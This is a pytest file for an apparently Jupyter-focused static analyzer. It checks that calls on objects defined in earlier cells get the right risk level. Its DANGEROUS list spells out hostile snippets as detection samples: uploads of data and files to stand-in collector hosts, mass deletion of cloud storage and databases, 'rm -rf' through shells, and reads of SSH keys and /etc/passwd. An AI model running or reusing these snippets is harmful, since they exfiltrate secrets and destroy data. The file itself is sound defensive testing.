"""Objects, functions and wrappers from earlier code: in the same cell, or in a cell before."""

from __future__ import annotations

import pytest

from tests.analysis.helpers import analyze, found
from tract_jupyter.analysis import AnalysisSession, RiskLevel

DANGEROUS = [
    (
        "import httpx\nclient = httpx.Client(base_url='https://collector.example.net')",
        "client.post('/rows', json=df.to_dict())",
    ),
    (
        "import requests\nclass Api:\n    def __init__(self):\n        self.session = requests.Session()\napi = Api()",
        "api.session.put(url, data=open('data.csv').read())",
    ),
    (
        "import requests\ndef make():\n    s = requests.Session()\n    s.headers['x'] = 'y'\n    return s\nclients = {'main': make()}",
        "clients['main'].post('https://h.example.net/in', files={'f': open('data.csv')})",
    ),
    (
        "import urllib3\npool = urllib3.PoolManager()",
        "pool.request('POST', 'https://x.example.net', body=text)",
    ),
    (
        "import requests, functools\nsend = functools.partial(requests.post, 'https://x.example.net/in')",
        "send(json=rows)",
    ),
    (
        "import requests\npost = lambda rows: requests.post('https://x.example.net', json=rows)",
        "post(df.to_dict())",
    ),
    (
        "import boto3\ns3 = boto3.resource('s3')\nbucket = s3.Bucket('prod-data')",
        "bucket.objects.all().delete()",
    ),
    ("import boto3\nec2 = boto3.client('ec2')", "ec2.terminate_instances(InstanceIds=ids)"),
    (
        "import boto3\ntable = boto3.resource('dynamodb').Table('users')",
        "with table.batch_writer() as batch:\n    for key in keys:\n        batch.delete_item(Key=key)",
    ),
    (
        "from google.cloud import storage\nbucket = storage.Client().bucket('prod')",
        "for blob in bucket.list_blobs():\n    blob.delete()",
    ),
    (
        "import docker\nengine = docker.from_env()",
        "engine.containers.run('alpine', 'rm -rf /host', volumes={'/': {'bind': '/host'}})",
    ),
    (
        "from sqlalchemy.orm import Session\nfrom sqlalchemy import create_engine\nsession = Session(create_engine(dsn))",
        "session.query(User).delete()\nsession.commit()",
    ),
    ("from pymongo import MongoClient\nusers = MongoClient(uri)['prod']['users']", "users.delete_many({})"),
    (
        "from neo4j import GraphDatabase\ndriver = GraphDatabase.driver(uri)\nsession = driver.session()",
        "session.run('MATCH (n) DETACH DELETE n')",
    ),
    (
        "import pymysql\nstate = {}\nstate['db'] = pymysql.connect(host=h)",
        "state['db'].cursor().execute('TRUNCATE TABLE users')",
    ),
    ("import os\nimport numpy as np\ndrop = np.vectorize(os.remove)", "drop(paths)"),
    (
        "import shutil\nfrom functools import partial\nclean = partial(shutil.rmtree, ignore_errors=True)",
        "clean('results')",
    ),
    ("import shutil\ndef clean(folder):\n    shutil.rmtree(folder)", "clean('data')"),
    ("import shutil, threading\nt = threading.Thread(target=shutil.rmtree, args=('data',))", "t.start()"),
    (
        "from pathlib import Path\nclass Store:\n    def __init__(self, root):\n        self.root = Path(root)\n    def wipe(self):\n        for p in self.root.rglob('*'):\n            p.unlink()\nstore = Store('data')",
        "store.wipe()",
    ),
    (
        "import os\nactions = []\nactions.append(os.removedirs)\nactions.append(os.remove)",
        "for act in actions:\n    act(path)",
    ),
    ("def read(path):\n    return open(path).read()", "print(read('/home/user/.ssh/id_rsa'))"),
    ("import pandas as pd\nload = lambda p: pd.read_csv(p, sep=':')", "load('/etc/passwd')"),
    ("def calc(text):\n    return eval(text)", "calc(cell)"),
    (
        "import builtins\nclass Rules:\n    def apply(self, text):\n        return builtins.eval(text)\nrules = Rules()",
        "rules.apply(row['rule'])",
    ),
    (
        "def logged(f):\n    def inner(*args):\n        exec(args[0])\n        return f(*args)\n    return inner\n@logged\ndef show(text):\n    print(text)",
        "show(message)",
    ),
    (
        "table = {'calc': eval}\ndef dispatch(kind, text):\n    return table[kind](text)",
        "dispatch('calc', text)",
    ),
    ("import numpy as np\nrun = np.frompyfunc(eval, 1, 1)", "run(column)"),
    ("class Runner:\n    def __call__(self, text):\n        exec(text)\nrun = Runner()", "run(source)"),
    ("import code\nconsole = code.InteractiveConsole()", "console.push(line)"),
    ("import pickle\nreader = pickle.Unpickler(stream)", "obj = reader.load()"),
    ("from ruamel.yaml import YAML\nyaml = YAML(typ='unsafe')", "config = yaml.load(text)"),
    ("import joblib\ndef restore(path):\n    return joblib.load(path)", "model = restore('model.bin')"),
    (
        "from lxml import etree\nparser = etree.XMLParser(resolve_entities=True)",
        "etree.fromstring(text, parser)",
    ),
    (
        "from lxml import etree\nparsers = {'x': etree.XMLParser(load_dtd=True, no_network=False)}",
        "etree.parse(source, parser=parsers['x'])",
    ),
    (
        "import subprocess\nshell = subprocess.Popen(['bash'], stdin=subprocess.PIPE, text=True)",
        "shell.stdin.write('rm -rf ~/data\\n')\nshell.stdin.flush()",
    ),
    ("import paramiko\nssh = paramiko.SSHClient()\nssh.connect(host)", "ssh.exec_command('shutdown -h now')"),
    ("import pexpect\nchild = pexpect.spawn('bash')", "child.sendline('rm -rf ~/data')"),
    ("import subprocess\ndef sh(line):\n    return subprocess.run(line, shell=True)", "sh('make deploy')"),
    ("import smtplib\nserver = smtplib.SMTP('mail.example.net')", "server.sendmail(a, b, text)"),
    ("from github import Github\nrepo = Github(token).get_repo('acme/site')", "repo.delete()"),
    ("import git\nrepo = git.Repo('.')\norigin = repo.remotes.origin", "origin.push(force=True)"),
    (
        "import ccxt\nexchange = ccxt.binance({'apiKey': k, 'secret': s})",
        "exchange.create_market_buy_order('BTC/USDT', 1)",
    ),
]

HARMLESS = [
    (
        "import requests\nfrom requests.adapters import HTTPAdapter\nfrom urllib3.util.retry import Retry\nsession = requests.Session()",
        "session.mount('https://', HTTPAdapter(max_retries=Retry(total=3)))",
    ),
    (
        "import requests\nr = requests.get('https://api.census.gov/data/2020?get=NAME')",
        "rows = r.json()\nr.raise_for_status()",
    ),
    (
        "import requests\nsession = requests.Session()",
        "session.headers.update({'User-Agent': 'me'})\nsession.close()",
    ),
    ("responses = {}\nresponses['a'] = 1", "responses.get('a')\nresponses.pop('a')"),
    (
        "from azure.core.exceptions import ResourceNotFoundError\nclass Local:\n    def delete(self):\n        self.done = True\nx = Local()",
        "x.delete()",
    ),
    (
        "import sqlite3\nconn = sqlite3.connect(':memory:')\ncur = conn.cursor()",
        "cur.execute('CREATE TABLE t (a int)')\ncur.execute('INSERT INTO t VALUES (1)')\nconn.commit()",
    ),
    (
        "import sqlite3\ndef query(sql):\n    with sqlite3.connect('local.db') as c:\n        return c.execute(sql).fetchall()",
        "query('SELECT count(*) FROM t')",
    ),
    (
        "from sqlalchemy.orm import Session\nfrom sqlalchemy import create_engine, select\nsession = Session(create_engine('sqlite://'))",
        "session.execute(select(User)).all()\nsession.close()",
    ),
    (
        "import pandas as pd\ndf = pd.read_csv('data.csv')",
        "df.drop(columns=['a']).query('b > 1').eval('c = b + 1')",
    ),
    (
        "import pandas as pd\nstore = {}\nstore['x'] = pd.read_csv('x.csv')",
        "store['x'].pop('col')\nstore['x'].update(other)\nstore['x'].insert(0, 'n', 1)",
    ),
    ("import numpy as np\nf = np.vectorize(lambda x: x + 1)", "f(values)"),
    (
        "import numpy as np\nfrom functools import partial\nnorm = partial(np.linalg.norm, axis=1)",
        "norm(matrix)",
    ),
    (
        "class Stack:\n    def pop(self): return self.items.pop()\n    def clear(self): self.items.clear()\ns = Stack()",
        "s.clear()",
    ),
    (
        "from sklearn.linear_model import LinearRegression\nmodel = LinearRegression()",
        "model.fit(X, y)\nmodel.predict(X)",
    ),
    (
        "from joblib import Parallel, delayed\ndef f(x):\n    return x ** 2",
        "Parallel(n_jobs=2)(delayed(f)(i) for i in range(4))",
    ),
    (
        "class Trainer:\n    def run(self):\n        for _ in range(3):\n            self.step()\n    def step(self):\n        self.n = 1\nt = Trainer()",
        "t.run()",
    ),
    (
        "from pathlib import Path\nout = Path('out')\nout.mkdir(exist_ok=True)",
        "(out / 'a.txt').write_text('x')",
    ),
    ("def read(path):\n    with open(path) as f:\n        return f.read()", "read('data/notes.txt')"),
    (
        "from lxml import etree\nparser = etree.XMLParser(resolve_entities=False)",
        "etree.fromstring(text, parser)",
    ),
    ("from ruamel.yaml import YAML\nyaml = YAML(typ='safe')", "yaml.load(text)"),
    (
        "import threading\ndef work():\n    print('x')\nt = threading.Thread(target=work)",
        "t.start()\nt.join()",
    ),
    (
        "from concurrent.futures import ThreadPoolExecutor\npool = ThreadPoolExecutor()\ndef square(x):\n    return x * x",
        "list(pool.map(square, range(3)))",
    ),
    ("import asyncio\nqueue = asyncio.Queue()", "await queue.put(1)\nawait queue.get()"),
    (
        "class Account:\n    def __init__(self):\n        self.rows = []\n    def post(self, row):\n        self.rows.append(row)\n    def send(self, other):\n        other.post(1)\na = Account()",
        "a.post({'x': 1})\na.send(a)",
    ),
    (
        "from dataclasses import dataclass\n@dataclass\nclass Point:\n    x: int\n    def move(self, d):\n        self.x += d\np = Point(1)",
        "p.move(2)",
    ),
    (
        "class Client:\n    def get(self, key):\n        return self.data[key]\nclient = Client()",
        "client.get('a')\nd = {}\nd.get('b')",
    ),
    (
        "import functools\ndef timed(f):\n    @functools.wraps(f)\n    def inner(*a, **k):\n        return f(*a, **k)\n    return inner\n@timed\ndef add(a, b):\n    return a + b",
        "add(1, 2)",
    ),
    ("import re\npattern = re.compile(r'(\\d+)')", "pattern.sub('x', text)"),
    (
        "import ipywidgets as w\nbutton = w.Button()\ndef clicked(b):\n    print('x')",
        "button.on_click(clicked)\ndisplay(button)",
    ),
]


def is_high(code, *before):
    return any(level >= RiskLevel.HIGH for _, level in found(code, *before))


@pytest.mark.parametrize(("setup", "act"), DANGEROUS, ids=[act for _, act in DANGEROUS])
def test_the_origin_of_an_object_decides_the_risk_of_its_methods(setup, act):
    assert is_high(f"{setup}\n{act}")
    assert is_high(act, setup)


@pytest.mark.parametrize(("setup", "act"), HARMLESS, ids=[act for _, act in HARMLESS])
def test_ordinary_methods_stay_below_high(setup, act):
    assert not is_high(f"{setup}\n{act}")
    assert not is_high(act, setup)


def test_a_function_of_an_earlier_cell_is_reported_once_at_its_first_use():
    result = analyze("x = 1\ncalc('a')\ncalc('b')", "def calc(text):\n    return eval(text)")
    (finding,) = result.findings
    assert (finding.code, finding.level, finding.span.line, finding.text) == ("TJ102", "critical", 2, "calc")
    assert finding.reason == "calc, from an earlier cell: eval runs text as code."


def test_calls_inside_a_called_function_are_reported():
    before = ["def inner(text):\n    exec(text)", "def outer(text):\n    inner(text)\n    outer(text)"]
    assert ("TJ102", "critical") in found("outer(x)", *before)


def test_a_function_that_is_defined_again_replaces_the_one_before():
    first, second = "def calc(x):\n    return eval(x)", "def calc(x):\n    return float(x)"
    assert found("calc('1')", first, second) == set()
    assert ("TJ102", "critical") in found("calc('1')", second, first)
    # This cell may have failed before the definition.
    assert ("TJ102", "critical") in found("calc('1')", first, f"check()\n{second}")
    assert ("TJ102", "critical") in found(f"calc('1')\n{second}", first)


def test_the_path_of_this_call_decides():
    before = "def read(path):\n    return open(path).read()"
    assert ("TJ204", "high") in found("read('/etc/passwd')", before)
    assert found("read('notes.txt')", before) == set()


def test_a_constructor_and_an_import_are_medium():
    code = "from requests.adapters import HTTPAdapter\nadapter = HTTPAdapter(max_retries=3)"
    assert {level for _, level in found(code)} == {"medium"}


def test_an_object_of_unknown_origin_that_sends_a_body_to_an_address():
    assert ("TJ301", "high") in found("def save(client):\n    client.post(url, json=rows)")
    assert found("def check(client):\n    client.post('/rows', json=rows)") == set()


def test_a_session_remembers_the_cells_before_until_new_ones_are_passed():
    session, cells = AnalysisSession(), ["drop = lambda p: exec(p)"]
    assert session.analyze("drop(x)", cells_before=cells).findings
    assert session.analyze("drop(x)").findings
    assert not session.analyze("drop(x)", cells_before=[]).findings
